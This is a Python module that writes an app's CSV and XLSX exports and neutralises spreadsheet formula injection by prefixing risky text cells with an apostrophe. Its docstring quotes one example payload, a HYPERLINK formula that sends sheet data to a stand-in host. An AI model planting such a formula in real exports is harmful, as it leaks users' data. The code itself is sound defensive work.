"""The one writer of every CSV and XLSX file the app hands out.

Text in these files comes from people (cohort names, nicknames, answers, assignment titles), and a
spreadsheet program runs a cell that starts with ``= + - @`` (or a tab or carriage return before
one) as a formula: ``=HYPERLINK("http://evil.test/?"&A1,"click")`` would send the sheet's data away
at a click. Every text cell, headers included, is neutralised as OWASP suggests, by a leading
apostrophe, which spreadsheets show as text and do not display. Numbers and dates are not text and
are written as they are (a negative number stays a number).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterable, Sequence
from datetime import datetime
from typing import Any

from openpyxl import Workbook

__all__ = ["FORMULA_START", "Sheet", "csv_text", "neutralise", "xlsx_bytes"]

#: Spreadsheet programs evaluate text cells that start with one of these.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_SHEET_FORBIDDEN = re.compile(r"[\[\]\*\?/\\:]")

#: (sheet title, header row, rows) of one worksheet.
Sheet = tuple[str, Sequence[str], Iterable[Sequence[Any]]]


def neutralise(value: Any) -> Any:
    """A text value a spreadsheet will show as text, never run; any other value unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def csv_text(
    header: Sequence[str],
    rows: Iterable[Sequence[Any]],
    *,
    convert: Callable[[Any], Any] | None = None,
) -> str:
    """CSV text with a header row; text cells neutralised, other cells passed through ``convert``.

    ``convert`` formats the non-text values (numbers, dates, None) of one kind of export; text is
    neutralised as stored, before any formatting, so a formatted number is never mistaken for one.
    """
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([neutralise(h) for h in header])
    for row in rows:
        writer.writerow(
            [neutralise(v) if isinstance(v, str) or convert is None else convert(v) for v in row]
        )
    return buffer.getvalue()


def _xlsx_cell(value: Any) -> Any:
    """A value openpyxl stores natively: neutralised text, naive datetimes (in UTC)."""
    if isinstance(value, datetime):
        return value.replace(tzinfo=None)
    return neutralise(value)


def _sheet_title(title: str, used: set[str]) -> str:
    """An Excel-legal, unique sheet name (31 characters, no []*?/\\:)."""
    base = _SHEET_FORBIDDEN.sub(" ", title)[:31].strip() or "Sheet"
    name, n = base, 2
    while name.lower() in used:
        suffix = f" ({n})"
        name, n = base[: 31 - len(suffix)] + suffix, n + 1
    used.add(name.lower())
    return name


def xlsx_bytes(sheets: Iterable[Sheet]) -> bytes:
    """A workbook with one sheet per ``(title, header, rows)``, the header row frozen.

    openpyxl stores a string starting with ``=`` as a formula, so neutralising matters here too.
    """
    workbook = Workbook(write_only=True)
    used: set[str] = set()
    for title, header, rows in sheets:
        sheet = workbook.create_sheet(_sheet_title(title, used))
        sheet.freeze_panes = "A2"
        sheet.append([_xlsx_cell(h) for h in header])
        for row in rows:
            sheet.append([_xlsx_cell(value) for value in row])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
